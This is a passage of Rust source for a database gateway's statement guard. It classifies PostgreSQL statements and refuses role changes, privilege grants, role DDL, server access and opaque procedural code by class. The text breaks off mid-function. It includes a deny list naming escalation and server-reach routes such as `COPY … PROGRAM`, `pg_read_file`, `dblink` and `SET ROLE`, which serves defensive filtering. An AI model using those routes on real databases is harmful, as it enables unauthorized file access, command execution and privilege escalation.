//! Which statements a grant's role may send through the gateway.
//!
//! A grant lets someone act as a database role for a while. Some statements would let them act as
//! more than that role, or outlast the grant: they change the session's identity, hand out
//! privileges, define roles, reach the server beyond the database, or run code the gateway cannot
//! read. Those are grouped in [`StatementClass`]es, which the catalog allows per role
//! (`allow_statements = ["role_change"]`); a statement of a class its role does not allow is refused:
//!
//! - `role_change`: `SET [SESSION|LOCAL] ROLE`, `RESET ROLE`, `SET`/`RESET SESSION AUTHORIZATION`,
//!   `set_config('role' | 'session_authorization', …)` anywhere in a statement, any `set_config`
//!   whose setting the guard cannot read, writes to the `pg_settings` view (its update rule calls
//!   `set_config`), and `role` set through `ALTER ROLE/DATABASE … SET` or a routine's `SET` clause;
//! - `privilege`: `GRANT`/`REVOKE` of privileges or role membership, `ALTER GROUP … ADD/DROP USER`,
//!   `ALTER DEFAULT PRIVILEGES`, `REASSIGN OWNED`, `DROP OWNED`, `… OWNER TO`,
//!   `CREATE SCHEMA … AUTHORIZATION`, `CREATE DATABASE … OWNER`, `SECURITY LABEL`, row-level
//!   security switches and policies, and `SECURITY DEFINER` routines (they lend their owner's rights
//!   to every caller, after the grant ends too);
//! - `role_ddl`: `CREATE`/`ALTER`/`DROP ROLE|USER|GROUP`, including `ALTER ROLE … SET`, `RENAME`
//!   and password changes;
//! - `server_access`: `COPY … PROGRAM`, `COPY` to or from a server file (not `STDIN`/`STDOUT`),
//!   `ALTER SYSTEM`, `ALTER DATABASE … SET`, `LOAD`, `CREATE`/`ALTER EXTENSION`, `CREATE LANGUAGE`,
//!   foreign data wrappers, servers, user mappings, foreign tables, subscriptions, tablespaces,
//!   event triggers, routines in `C` or `internal`, and the watched functions that read server
//!   files (`pg_read_file`, `pg_ls_dir`, `lo_import`…), connect elsewhere (`dblink`…),
//!   change the server's configuration or signal other sessions (`pg_terminate_backend`: several
//!   people may share one grant role, and PostgreSQL lets a role signal all of its sessions);
//! - `procedural`: `DO` and routines whose body is a string (`AS '…'`, in any language, SQL
//!   included: the gateway does not read inside it), and functions that run SQL text
//!   (`query_to_xml`, `ts_stat`…). Routines written with a SQL-standard body (`BEGIN ATOMIC … END`,
//!   `RETURN …`) are parsed, so their statements are checked like any other.
//!
//! Two more things are refused whatever the role: text the parser rejects, and changing
//! `standard_conforming_strings` or `client_encoding` away from `on` and UTF-8. The guard reads
//! statements as PostgreSQL does with those values; once the server reads backslashes or bytes
//! differently, a string literal to the guard can be code to the server.
//!
//! Checking fails closed. Statements are found with libpg_query, the server's own grammar, and a
//! text of several statements is refused whole when one of them is. A typed walk of the parse
//! tree classifies each statement and reads the arguments of `set_config`; a census of the
//! same tree, driven by the `serde::Serialize` that every pg_query node derives, visits every
//! field of every node, so a watched function named anywhere (a call in a column default, an
//! aggregate's `sfunc`, an operator's function) or a statement nested where the walk does not look
//! is still seen, and anything the walk did not account for is refused.
//!
//! Plain `SELECT`/`INSERT`/`UPDATE`/`DELETE`/`MERGE` text that names no watched function (most of
//! the traffic) skips the full tree: the grammar confirms that every statement is one of those,
//! and the scanner's tokens show that none of the watched names appear, which is all such a
//! statement could use to change identity or reach the server. Verdicts are cached by exact text.
//!
//! Two assumptions are the connection's to keep: the session starts with
//! `standard_conforming_strings = on` and `client_encoding = UTF8` (start-up parameters are not
//! statements, so the guard never sees them), and a role allowed `role_change` may `RESET ALL`,
//! which resets those two to the session's start-up values.

use std::fmt;
use std::ops::Range;
use std::str::FromStr;
use std::sync::Arc;

use pg_query::NodeEnum;
use pg_query::protobuf::{
    self, AlterTableType, FuncCall, ObjectType, RoleStmtType, SelectStmt, Token, VariableSetKind, VariableSetStmt,
    WithClause, a_const,
};
use quick_cache::Weighter;
use quick_cache::sync::Cache;
use serde::Serialize;
use serde::ser::{self, Impossible};

/// A group of statements that change identity or privilege, or reach past the database; a role is
/// allowed each class individually in the catalog, by its [`as_str`](Self::as_str) name.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum StatementClass {
    /// Changes the session's role: `SET ROLE`, `SET SESSION AUTHORIZATION`, `RESET ALL`, `set_config('role', …)`.
    RoleChange,
    /// Changes who may do what: `GRANT`, `REVOKE`, ownership, policies, `SECURITY DEFINER`.
    Privilege,
    /// Creates, alters or drops roles.
    RoleDdl,
    /// Reaches the server's files, programs, network, configuration or other sessions.
    ServerAccess,
    /// Runs code the gateway cannot read: `DO`, routine bodies given as strings, `query_to_xml`.
    Procedural,
}

impl StatementClass {
    pub const ALL: [StatementClass; 5] =
        [Self::RoleChange, Self::Privilege, Self::RoleDdl, Self::ServerAccess, Self::Procedural];

    /// The name used in the catalog.
    pub fn as_str(self) -> &'static str {
        match self {
            Self::RoleChange => "role_change",
            Self::Privilege => "privilege",
            Self::RoleDdl => "role_ddl",
            Self::ServerAccess => "server_access",
            Self::Procedural => "procedural",
        }
    }

    /// What a statement of the class does, for the person it is refused to.
    fn effect(self) -> &'static str {
        match self {
            Self::RoleChange => "changes the session's role",
            Self::Privilege => "changes privileges, role memberships, ownership or row security",
            Self::RoleDdl => "creates, alters or drops roles",
            Self::ServerAccess => "reaches the server's files, programs, network, configuration or other sessions",
            Self::Procedural => "runs code the gateway cannot inspect",
        }
    }

    fn bit(self) -> u8 {
        1 << self as u8
    }
}

impl fmt::Display for StatementClass {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

impl FromStr for StatementClass {
    type Err = UnknownClass;

    fn from_str(name: &str) -> Result<Self, UnknownClass> {
        Self::ALL.into_iter().find(|class| class.as_str() == name).ok_or_else(|| UnknownClass { name: name.to_owned() })
    }
}

#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error(
    "unknown statement class `{name}`; the classes are role_change, privilege, role_ddl, server_access and procedural"
)]
pub struct UnknownClass {
    pub name: String,
}

/// The statement classes a role allows; [`Allowed::none`] for most roles.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct Allowed(u8);

impl Allowed {
    pub const fn none() -> Self {
        Self(0)
    }

    /// Reads a catalog's `allow_statements` list.
    pub fn parse<S: AsRef<str>>(names: &[S]) -> Result<Self, UnknownClass> {
        names.iter().map(|name| name.as_ref().parse::<StatementClass>()).collect()
    }

    pub fn contains(self, class: StatementClass) -> bool {
        self.0 & class.bit() != 0
    }

    pub fn iter(self) -> impl Iterator<Item = StatementClass> {
        StatementClass::ALL.into_iter().filter(move |class| self.contains(*class))
    }
}

impl FromIterator<StatementClass> for Allowed {
    fn from_iter<I: IntoIterator<Item = StatementClass>>(classes: I) -> Self {
        Self(classes.into_iter().fold(0, |bits, class| bits | class.bit()))
    }
}

/// A text the guard lets through.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Checked<'a> {
    /// Each statement of the text, in order, as written (from its first token, comments before it
    /// left out, to its `;`); empty when the text holds none. The server answers each in turn.
    pub statements: Vec<&'a str>,
    /// The allowed classes the text used, worth recording; [`Allowed::none`] for plain statements.
    pub exercised: Allowed,
}

/// Why a text is not forwarded. The `Display` is written for the person who sent it.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum Refusal {
    #[error("statement refused because it could not be parsed: {message}")]
    Unparseable { message: String },
    #[error("statement refused because it nests a statement where the gateway cannot check it")]
    Uncheckable,
    #[error("`{statement}` {} (statement class `{class}`), which this role does not allow", class.effect())]
    Forbidden { class: StatementClass, statement: &'static str },
    #[error(
        "changing `{setting}` would make the server read statements differently from the gateway's check, \
         so it is never allowed (only `{accepted}` is accepted)"
    )]
    ChangesParsing { setting: &'static str, accepted: &'static str },
    #[error("statement text of {bytes} bytes refused: this gateway reads at most {limit} bytes (max_statement_bytes)")]
    TooLong { bytes: usize, limit: usize },
    #[error(
        "a text with a backslash right after a non-ASCII character is not accepted while earlier statements are \
         unanswered (the server could read it in another client encoding by then); send it once they are answered"
    )]
    Unsettled,
}

impl Refusal {
    /// The SQLSTATE of the `ErrorResponse` that carries the refusal.
    pub fn sqlstate(&self) -> &'static str {
        match self {
            Self::Unparseable { .. } => "42601",
            Self::Uncheckable | Self::Unsettled => "0A000",
            Self::TooLong { .. } => "54000",
            Self::Forbidden { .. } | Self::ChangesParsing { .. } => "42501",
        }
    }
}

/// What stands in for a text [`redact`] cannot parse.
pub const UNPARSEABLE_TEXT: &str = "<unparseable statement>";

/// The text with its constants replaced by `$1`, `$2`… (libpg_query's normalization), for records
/// that must not hold the values. Text the parser rejects is never returned as it is: a mistyped
/// statement can hold a password as well as a correct one, so [`UNPARSEABLE_TEXT`] stands in.
/// Comments are kept, and so are file names in `COPY`.
pub fn redact(sql: &str) -> String {
    pg_query::normalize(sql).unwrap_or_else(|_| UNPARSEABLE_TEXT.to_owned())
}

/// Checks statements, remembering verdicts by exact text so that repeated texts (prepared
/// statements, an ORM's queries) are not parsed again.
pub struct Guard {
    verdicts: Cache<String, Arc<Verdict>, TextWeight>,
}

impl Default for Guard {
    fn default() -> Self {
        Self::new()
    }
}

impl Guard {
    /// A guard remembering up to 8 MiB of statement text.
    pub fn new() -> Self {
        Self::with_cache_bytes(8 << 20)
    }

    /// A guard remembering up to `bytes` of statement text (texts larger than a cache shard's
    /// share are checked every time).
    pub fn with_cache_bytes(bytes: u64) -> Self {
        let estimated_texts = usize::try_from(bytes / 256).unwrap_or(usize::MAX).max(16);
        Self { verdicts: Cache::with_weighter(estimated_texts, bytes.max(1), TextWeight) }
    }

    /// Whether `sql` (a simple-protocol `Query` with any number of statements, or the text of an
    /// extended-protocol `Parse`) may be forwarded for a role allowing `allowed`.
    pub fn check<'a>(&self, sql: &'a str, allowed: &Allowed) -> Result<Checked<'a>, Refusal> {
        let verdict = match self.verdicts.get(sql) {
            Some(verdict) => verdict,
            None => {
                let verdict = Arc::new(classify(sql));
                self.verdicts.insert(sql.to_owned(), Arc::clone(&verdict));
                verdict
            }
        };
        let (spans, needs) = match &*verdict {
            Verdict::Refused(refusal) => return Err(refusal.clone()),
            Verdict::Classified { spans, needs } => (spans, needs),
        };
        if let Some(need) = needs.iter().find(|need| !allowed.contains(need.class)) {
            return Err(Refusal::Forbidden { class: need.class, statement: need.statement });
        }
        // The spans were cut from this very text, so every one of them is found.
        let statements = spans.iter().map(|span| sql.get(span.clone())).collect::<Option<Vec<_>>>();
        let statements = statements.ok_or(Refusal::Uncheckable)?;
        Ok(Checked { statements, exercised: needs.iter().map(|need| need.class).collect() })
    }
}

/// Weighs a cached verdict by its text, plus what an entry costs besides.
#[derive(Clone)]
struct TextWeight;

impl Weighter<String, Arc<Verdict>> for TextWeight {
    fn weight(&self, text: &String, _: &Arc<Verdict>) -> u64 {
        u64::try_from(text.len()).unwrap_or(u64::MAX).saturating_add(96)
    }
}

/// What a text is, whoever sends it: refused outright, or its statements with the classes they need.
#[derive(Debug)]
enum Verdict {
    Refused(Refusal),
    Classified { spans: Vec<Range<usize>>, needs: Vec<Need> },
}

/// A statement class a text needs, and the statement that needs it, in the words of the refusal.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
struct Need {
    class: StatementClass,
    statement: &'static str,
}

/// The verdict on `sql` as the server reads it with `standard_conforming_strings = on` (the
/// session's start) and, when it holds a backslash, also as read with it `off`: a text sent
/// before the gateway learns that the setting changed (pipelined behind the statement that
/// changed it, which the server reports only when it is next ready) must be harmless both ways.
/// A text the second reading cannot parse would be refused by such a server too.
fn classify(sql: &str) -> Verdict {
    let verdict = classify_as_written(sql);
    if !sql.contains('\\') {
        return verdict;
    }
    let Verdict::Classified { spans, mut needs } = verdict else { return verdict };
    let Ok(escaping) = pg_query::parse(sql, pg_query::ParserOptions::DISABLE_STANDARD_CONFORMING_STRINGS) else {
        return Verdict::Classified { spans, needs };
    };
    match judge(sql, &escaping.protobuf) {
        Verdict::Refused(refusal) => Verdict::Refused(refusal),
        Verdict::Classified { needs: also, .. } => {
            needs.extend(also);
            Verdict::Classified { spans, needs }
        }
    }
}

/// Whether the server could read `sql` differently after its `client_encoding` changed: only
/// when a byte of a multi-byte character comes right before a `\`, which encodings such as
/// SJIS, BIG5 or GBK read as the second half of one character (every encoding PostgreSQL
/// speaks reads ASCII bytes alone as ASCII).
pub fn encoding_sensitive(sql: &str) -> bool {
    sql.as_bytes().windows(2).any(|pair| pair[0] >= 0x80 && pair[1] == b'\\')
}

fn classify_as_written(sql: &str) -> Verdict {
    match plain(sql) {
        Ok(Some(spans)) => Verdict::Classified { spans, needs: Vec::new() },
        Ok(None) => match pg_query::parse(sql, 0) {
            Ok(parsed) => judge(sql, &parsed.protobuf),
            Err(error) => Verdict::Refused(unparseable(error)),
        },
        Err(refusal) => Verdict::Refused(refusal),
    }
}

/// The fast path: the spans of a text made only of `SELECT`/`INSERT`/`UPDATE`/`DELETE`/`MERGE`
/// statements that name nothing watched, or `None` when the text needs [`judge`].
///
/// Such a statement can change identity or reach the server only by naming a watched function or
/// `pg_settings`, and every name in it is a token: an identifier, or a keyword (no watched name is
/// one). Unicode-escaped identifiers (`U&"…"`) are left to the full parse, which decodes them.
fn plain(sql: &str) -> Result<Option<Vec<Range<usize>>>, Refusal> {
    // pg_query 18.1.0's `scan_tokens` builds a slice from a null pointer when the scanner finds no
    // token (only whitespace, as PostgreSQL defines it); the full parse handles such text.
    if sql.bytes().all(|byte| byte.is_ascii_whitespace() || byte == 0x0b) {
        return Ok(None);
    }
    let tokens = pg_query::scan_tokens(sql).map_err(unparseable)?;
    let mut spans = Vec::new();
    let mut start = None;
    for token in &tokens {
        let (Ok(from), Ok(to)) = (usize::try_from(token.start), usize::try_from(token.end)) else {
            return Ok(None);
        };
        match Token::try_from(token.token) {
            Ok(Token::Ascii59) => spans.extend(start.take().map(|start| trimmed(sql, start..from))),
            Ok(Token::SqlComment | Token::CComment) => {}
            Ok(Token::Uident) => return Ok(None),
            Ok(Token::Ident) if sql.get(from..to).is_none_or(names_watched) => return Ok(None),
            // A token this build does not know could be a new kind of identifier.
            Err(_) => return Ok(None),
            Ok(_) => {
                start.get_or_insert(from);
            }
        }
    }
    spans.extend(start.map(|start| trimmed(sql, start..sql.len())));
    let utility = pg_query::is_utility_stmt(sql).map_err(unparseable)?;
    if utility.len() != spans.len() || utility.contains(&true) {
        return Ok(None);
    }
    Ok(Some(spans))
}

/// Whether an identifier token, quoted or not, could name a watched function or `pg_settings`.
/// Names are compared ignoring ASCII case, which for quoted identifiers sees more than
/// PostgreSQL would: that only sends a text to the full parse.
fn names_watched(token: &str) -> bool {
    let name = token.strip_prefix('"').and_then(|quoted| quoted.strip_suffix('"')).unwrap_or(token);
    name.eq_ignore_ascii_case("set_config")
        || name.eq_ignore_ascii_case("pg_settings")
        || watched_function(name).is_some()
}

/// A statement's span without the whitespace before its `;`, as both paths report it.
fn trimmed(sql: &str, span: Range<usize>) -> Range<usize> {
    let kept = sql.get(span.clone()).map_or(0, |text| text.trim_end().len());
    span.start..span.start + kept
}

/// The full check of a parsed text: the typed walk, then the census that keeps it honest.
fn judge(sql: &str, tree: &protobuf::ParseResult) -> Verdict {
    let mut walk = Walk::default();
    let mut census = Census::default();
    let mut spans = Vec::with_capacity(tree.stmts.len());
    for raw in &tree.stmts {
        let (Ok(start), Ok(len)) = (usize::try_from(raw.stmt_location), usize::try_from(raw.stmt_len)) else {
            return Verdict::Refused(Refusal::Uncheckable);
        };
        // A length of zero runs to the end of the text.
        let end = if len == 0 { sql.len() } else { start.saturating_add(len) };
        if sql.get(start..end).is_none() {
            return Verdict::Refused(Refusal::Uncheckable);
        }
        spans.push(trimmed(sql, start..end));
        walk.child(raw.stmt.as_deref());
        match census.statement(raw) {
            Ok(true) => walk.need(StatementClass::RoleChange, "UPDATE pg_settings"),
            Ok(false) => {}
            Err(fmt::Error) => return Verdict::Refused(Refusal::Uncheckable),
        }
    }
    if census.statements != walk.statements {
        return Verdict::Refused(Refusal::Uncheckable);
    }
    if let Some(refusal) = walk.never {
        return Verdict::Refused(refusal);
    }
    let mut needs = walk.needs;
    needs.extend(census.functions.iter().map(|function| Need { class: function.class, statement: function.statement }));
    if census.set_config > walk.set_config {
        needs.push(Need { class: StatementClass::RoleChange, statement: "set_config(…)" });
    }
    Verdict::Classified { spans, needs }
}

fn unparseable(error: pg_query::Error) -> Refusal {
    let message = match error {
        pg_query::Error::Parse(message)
        | pg_query::Error::Scan(message)
        | pg_query::Error::Split(message)
        | pg_query::Error::IsUtility(message) => message,
        pg_query::Error::Conversion(_) => "the text holds a zero byte".to_owned(),
        // prost decodes at most 100 nested messages: some 45 chained operators in a statement that
        // takes the full check (plain statements never go through protobuf).
        pg_query::Error::Decode(_) => "its expressions nest too deeply for the gateway to check".to_owned(),
        other => other.to_string(),
    };
    Refusal::Unparseable { message }
}

/// A function the guard refuses wherever it is named, unless its class is allowed.
struct WatchedFunction {
    /// The name, or with `family` the start of the names.
    name: &'static str,
    family: bool,
    class: StatementClass,
    statement: &'static str,
}

macro_rules! watched {
    ($name:literal, $class:ident) => {
        WatchedFunction { name: $name, family: false, class: StatementClass::$class, statement: concat!($name, "()") }
    };
    ($name:literal..., $class:ident) => {
        WatchedFunction { name: $name, family: true, class: StatementClass::$class, statement: concat!($name, "…()") }
    };
}

/// The functions refused by name. `set_config` is judged by its arguments instead, in [`Walk`].
const WATCHED_FUNCTIONS: &[WatchedFunction] = &[
    // Server files, read or written.
    watched!("pg_read_file", ServerAccess),
    watched!("pg_read_binary_file", ServerAccess),
    watched!("pg_stat_file", ServerAccess),
    watched!("pg_ls_"..., ServerAccess),
    watched!("pg_file_write", ServerAccess),
    watched!("pg_file_rename", ServerAccess),
    watched!("pg_file_unlink", ServerAccess),
    watched!("pg_file_sync", ServerAccess),
    watched!("pg_logdir_ls", ServerAccess),
    watched!("lo_import", ServerAccess),
    watched!("lo_export", ServerAccess),
    // Other servers.
    watched!("dblink", ServerAccess),
    watched!("dblink_exec", ServerAccess),
    watched!("dblink_connect", ServerAccess),
    watched!("dblink_connect_u", ServerAccess),
    watched!("dblink_open", ServerAccess),
    watched!("dblink_send_query", ServerAccess),
    // The server itself and its other sessions.
    watched!("pg_reload_conf", ServerAccess),
    watched!("pg_rotate_logfile", ServerAccess),
    watched!("pg_promote", ServerAccess),
    watched!("pg_terminate_backend", ServerAccess),
    watched!("pg_cancel_backend", ServerAccess),
    // Every table's changes, whatever the role may read.
    watched!("pg_logical_slot_"..., ServerAccess),
    watched!("pg_create_logical_replication_slot", ServerAccess),
    // SQL text run out of the guard's sight. Only the two-argument `ts_rewrite` runs SQL; both are
    // refused, since a name is all the census sees.
    watched!("query_to_xml"..., Procedural),
    watched!("ts_stat", Procedural),
    watched!("ts_rewrite", Procedural),
];

fn watched_function(name: &str) -> Option<&'static WatchedFunction> {
    WATCHED_FUNCTIONS.iter().find(|function| {
        if function.family {
            name.as_bytes()
                .get(..function.name.len())
                .is_some_and(|start| start.eq_ignore_ascii_case(function.name.as_bytes()))
        } else {
            name.eq_ignore_ascii_case(function.name)
        }
    })
}

/// The typed walk: classifies every statement of a tree, looking into the statements that hold
/// statements, and judges `set_config` calls in `SELECT` lists by their arguments.
#[derive(Default)]
struct Walk {
    needs: Vec<Need>,
    /// A refusal no class allows.
    never: Option<Refusal>,
    /// Utility statements classified, to compare with the census.
    statements: usize,
    /// `set_config` calls judged by their arguments, to compare with the census.
    set_config: usize,
}

impl Walk {
    fn need(&mut self, class: StatementClass, statement: &'static str) {
        self.needs.push(Need { class, statement });
    }

    fn child(&mut self, node: Option<&protobuf::Node>) {
        if let Some(node) = node.and_then(|node| node.node.as_ref()) {
            self.statement(node);
        }
    }

    fn children(&mut self, nodes: &[protobuf::Node]) {
        for node in nodes {
            self.child(Some(node));
        }
    }

    fn statement(&mut self, node: &NodeEnum) {
        use NodeEnum as N;
        use StatementClass::*;
        if !is_dml(node) {
            self.statements += 1;
        }
        if let Some((class, statement)) = class_of(node) {
            self.need(class, statement);
        }
        match node {
            N::SelectStmt(select) => self.select(select),
            N::InsertStmt(insert) => {
                self.with(insert.with_clause.as_ref());
                self.child(insert.select_stmt.as_deref());
            }
            N::UpdateStmt(update) => self.with(update.with_clause.as_ref()),
            N::DeleteStmt(delete) => self.with(delete.with_clause.as_ref()),
            N::MergeStmt(merge) => self.with(merge.with_clause.as_ref()),
            N::ExplainStmt(explain) => self.child(explain.query.as_deref()),
            N::PrepareStmt(prepare) => self.child(prepare.query.as_deref()),
            N::DeclareCursorStmt(declare) => self.child(declare.query.as_deref()),
            N::CreateTableAsStmt(create) => self.child(create.query.as_deref()),
            N::ViewStmt(view) => self.child(view.query.as_deref()),
            N::CopyStmt(copy) => self.child(copy.query.as_deref()),
            N::RuleStmt(rule) => self.children(&rule.actions),
            N::CreateSchemaStmt(schema) => {
                if schema.authrole.is_some() {
                    self.need(Privilege, "CREATE SCHEMA … AUTHORIZATION");
                }
                self.children(&schema.schema_elts);
            }
            N::VariableSetStmt(set) => self.set(set),
            N::AlterRoleSetStmt(alter) => self.nested_set(alter.setstmt.as_ref()),
            N::AlterDatabaseSetStmt(alter) => self.nested_set(alter.setstmt.as_ref()),
            N::AlterSystemStmt(alter) => self.nested_set(alter.setstmt.as_ref()),
            // Their `GRANT` and `CREATE TABLE` are statements in the tree, counted by the census.
            N::AlterDefaultPrivilegesStmt(alter) => self.statements += usize::from(alter.action.is_some()),
            N::CreateForeignTableStmt(create) => self.statements += usize::from(create.base_stmt.is_some()),
            N::AlterTableStmt(alter) => {
                for command in &alter.cmds {
                    let Some(N::AlterTableCmd(command)) = &command.node else { continue };
                    match command.subtype() {
                        AlterTableType::AtChangeOwner => self.need(Privilege, "… OWNER TO"),
                        AlterTableType::AtEnableRowSecurity
                        | AlterTableType::AtDisableRowSecurity
                        | AlterTableType::AtForceRowSecurity
                        | AlterTableType::AtNoForceRowSecurity => self.need(Privilege, "ROW LEVEL SECURITY"),
                        _ => {}
                    }
                    // `REPLICA IDENTITY` comes as a statement.
                    if let Some(N::ReplicaIdentityStmt(_)) = command.def.as_deref().and_then(|def| def.node.as_ref()) {
                        self.statements += 1;
                    }
                }
            }
            N::CreateFunctionStmt(create) => {
                self.routine(&create.options);
                let what =
                    if create.is_procedure { "CREATE PROCEDURE … AS '…'" } else { "CREATE FUNCTION … AS '…'" };
                if create.options.iter().any(|option| defines(option, "as")) {
                    self.need(Procedural, what);
                }
                if let Some(body) = create.sql_body.as_deref() {
                    self.body(body);
                }
            }
            N::AlterFunctionStmt(alter) => self.routine(&alter.actions),
            _ => {}
        }
    }

    /// A SQL-standard routine body: a `RETURN` expression, or `BEGIN ATOMIC` statements in lists.
    fn body(&mut self, node: &protobuf::Node) {
        match &node.node {
            Some(NodeEnum::List(list)) => list.items.iter().for_each(|item| self.body(item)),
            Some(statement) => self.statement(statement),
            None => {}
        }
    }

    /// The options of `CREATE FUNCTION` or actions of `ALTER FUNCTION` that matter.
    fn routine(&mut self, options: &[protobuf::Node]) {
        for option in options {
            let Some(NodeEnum::DefElem(option)) = &option.node else { continue };
            match (option.defname.as_str(), option.arg.as_deref().and_then(|arg| arg.node.as_ref())) {
                ("security", Some(NodeEnum::Boolean(definer))) if definer.boolval => {
                    self.need(StatementClass::Privilege, "… SECURITY DEFINER");
                }
                ("language", Some(NodeEnum::String(language)))
                    if ["c", "internal"].iter().any(|server| language.sval.eq_ignore_ascii_case(server)) =>
                {
                    self.need(StatementClass::ServerAccess, "… LANGUAGE C");
                }
                ("set", Some(NodeEnum::VariableSetStmt(set))) => {
                    self.statements += 1;
                    self.set(set);
                }
                _ => {}
            }
        }
    }

    fn with(&mut self, with: Option<&WithClause>) {
        for cte in with.map(|with| with.ctes.as_slice()).unwrap_or_default() {
            if let Some(NodeEnum::CommonTableExpr(cte)) = &cte.node {
                self.child(cte.ctequery.as_deref());
            }
        }
    }

    fn select(&mut self, select: &SelectStmt) {
        self.with(select.with_clause.as_ref());
        for arm in [&select.larg, &select.rarg].into_iter().flatten() {
            self.select(arm);
        }
        let rows = settings_selected(select);
        for target in &select.target_list {
            if let Some(NodeEnum::ResTarget(target)) = &target.node
                && let Some(NodeEnum::FuncCall(call)) = target.val.as_deref().and_then(|value| value.node.as_ref())
            {
                self.set_config(call, rows.as_deref());
            }
        }
    }

    /// Judges `set_config(setting, value, is_local)` when its setting is a constant, or the
    /// `name` column of a select from `pg_settings` whose rows are `rows` (named by constants, as
    /// pg_dump does: `SELECT set_config(name, …) FROM pg_settings WHERE name = '…'`). Calls left
    /// unjudged (elsewhere than a `SELECT` list, or with a computed setting) are counted by the
    /// census and refused as `role_change`.
    fn set_config(&mut self, call: &FuncCall, rows: Option<&[&str]>) {
        let names: Vec<&str> = call.funcname.iter().filter_map(string).collect();
        if !matches!(names.as_slice(), ["set_config"] | ["pg_catalog", "set_config"]) {
            return;
        }
        let settings: Vec<&str> = match (call.args.first().and_then(constant), call.args.first(), rows) {
            (Some(Constant::Text(name)), _, _) => vec![name],
            (None, Some(argument), Some(rows)) if column(argument) == Some("name") => rows.to_vec(),
            _ => return,
        };
        self.set_config += 1;
        for name in settings {
            self.judge_set_config(name, call);
        }
    }

    fn judge_set_config(&mut self, name: &str, call: &FuncCall) {
        match setting(name) {
            Setting::Role => self.need(StatementClass::RoleChange, "set_config('role', …)"),
            Setting::SessionAuthorization => {
                self.need(StatementClass::RoleChange, "set_config('session_authorization', …)");
            }
            Setting::Lexing(lexing) => self.lexing(lexing, call.args.get(1).and_then(constant)),
            // Deliberately allowed, as with `SET`: other settings are the session's own, custom ones
            // (`app.tenant`) included. A database whose row-level security trusts such a setting
            // cannot trust it against someone holding a grant.
            Setting::Other => {}
        }
    }

    /// A `SET` held directly by another statement (`ALTER ROLE … SET`, `ALTER SYSTEM`).
    fn nested_set(&mut self, set: Option<&VariableSetStmt>) {
        if let Some(set) = set {
            self.statements += 1;
            self.set(set);
        }
    }

    fn set(&mut self, set: &VariableSetStmt) {
        use StatementClass::RoleChange;
        let reset = match set.kind() {
            // Back to the session's start: the grant's own role, and the start-up parameters the
            // gateway gave (`standard_conforming_strings = on`, the client's UTF-8).
            VariableSetKind::VarResetAll => return,
            VariableSetKind::VarReset => true,
            _ => false,
        };
        match setting(&set.name) {
            Setting::Role => self.need(
                RoleChange,
                match (reset, set.is_local) {
                    (true, _) => "RESET ROLE",
                    (false, true) => "SET LOCAL ROLE",
                    (false, false) => "SET ROLE",
                },
            ),
            Setting::SessionAuthorization => {
                self.need(RoleChange, if reset { "RESET SESSION AUTHORIZATION" } else { "SET SESSION AUTHORIZATION" });
            }
            Setting::Lexing(lexing) => {
                let value = match (set.kind(), set.args.as_slice()) {
                    (VariableSetKind::VarSetValue, [value]) => constant(value),
                    _ => None,
                };
                self.lexing(lexing, value);
            }
            Setting::Other => {}
        }
    }

    fn lexing(&mut self, lexing: Lexing, value: Option<Constant<'_>>) {
        if !lexing.keeps_reading(value) && self.never.is_none() {
            self.never = Some(Refusal::ChangesParsing { setting: lexing.name(), accepted: lexing.accepted() });
        }
    }
}

/// The settings a `SELECT … FROM pg_settings WHERE name = '…'` (or `name IN ('…', …)`) is
/// confined to, when it is exactly that: one source, `pg_settings`, and that condition alone.
fn settings_selected(select: &SelectStmt) -> Option<Vec<&str>> {
    let [source] = select.from_clause.as_slice() else { return None };
    let Some(NodeEnum::RangeVar(relation)) = &source.node else { return None };
    let catalog = relation.schemaname.is_empty() || relation.schemaname == "pg_catalog";
    if !(catalog && relation.catalogname.is_empty() && relation.relname == "pg_settings") {
        return None;
    }
    let Some(NodeEnum::AExpr(condition)) = select.where_clause.as_deref().and_then(|w| w.node.as_ref()) else {
        return None;
    };
    let operator: Vec<&str> = condition.name.iter().filter_map(string).collect();
    if operator != ["="] || condition.lexpr.as_deref().and_then(column) != Some("name") {
        return None;
    }
    let right = condition.rexpr.as_deref()?;
    let values: Vec<&protobuf::Node> = match (condition.kind(), &right.node) {
        (protobuf::AExprKind::AexprOp, _) => vec![right],
        (protobuf::AExprKind::AexprIn, Some(NodeEnum::List(list))) => list.items.iter().collect(),
        _ => return None,
    };
    values
        .into_iter()
        .map(|value| match constant(value) {
            Some(Constant::Text(name)) => Some(name),
            _ => None,
        })
        .collect()
}

/// The column a plain one-part column reference names.
fn column(node: &protobuf::Node) -> Option<&str> {
    match &node.node {
        Some(NodeEnum::ColumnRef(reference)) => match reference.fields.as_slice() {
            [field] => string(field),
            _ => None,
        },
        _ => None,
    }
}

/// Statements that need one class whatever they hold. Statements that need a class only with
/// some options (`CREATE SCHEMA … AUTHORIZATION`, `SECURITY DEFINER`) are in [`Walk::statement`].
fn class_of(node: &NodeEnum) -> Option<(StatementClass, &'static str)> {
    use NodeEnum as N;
    use StatementClass::*;
    let statement = match node {
        N::GrantStmt(grant) => (Privilege, if grant.is_grant { "GRANT" } else { "REVOKE" }),
        N::GrantRoleStmt(grant) => (Privilege, if grant.is_grant { "GRANT role" } else { "REVOKE role" }),
        N::AlterDefaultPrivilegesStmt(_) => (Privilege, "ALTER DEFAULT PRIVILEGES"),
        N::ReassignOwnedStmt(_) => (Privilege, "REASSIGN OWNED"),
        N::DropOwnedStmt(_) => (Privilege, "DROP OWNED"),
        N::AlterOwnerStmt(_) => (Privilege, "… OWNER TO"),
        N::SecLabelStmt(_) => (Privilege, "SECURITY LABEL"),
        N::CreatePolicyStmt(_) => (Privilege, "CREATE POLICY"),
        N::AlterPolicyStmt(_) => (Privilege, "ALTER POLICY"),
        N::DropStmt(drop) if drop.remove_type() == ObjectType::ObjectPolicy => (Privilege, "DROP POLICY"),
        N::CreatedbStmt(create) if create.options.iter().any(|option| defines(option, "owner")) => {
            (Privilege, "CREATE DATABASE … OWNER")
        }
        // `ALTER GROUP … ADD USER` is a `GRANT` of membership.
        N::AlterRoleStmt(alter) if alter.options.iter().any(|option| defines(option, "rolemembers")) => {
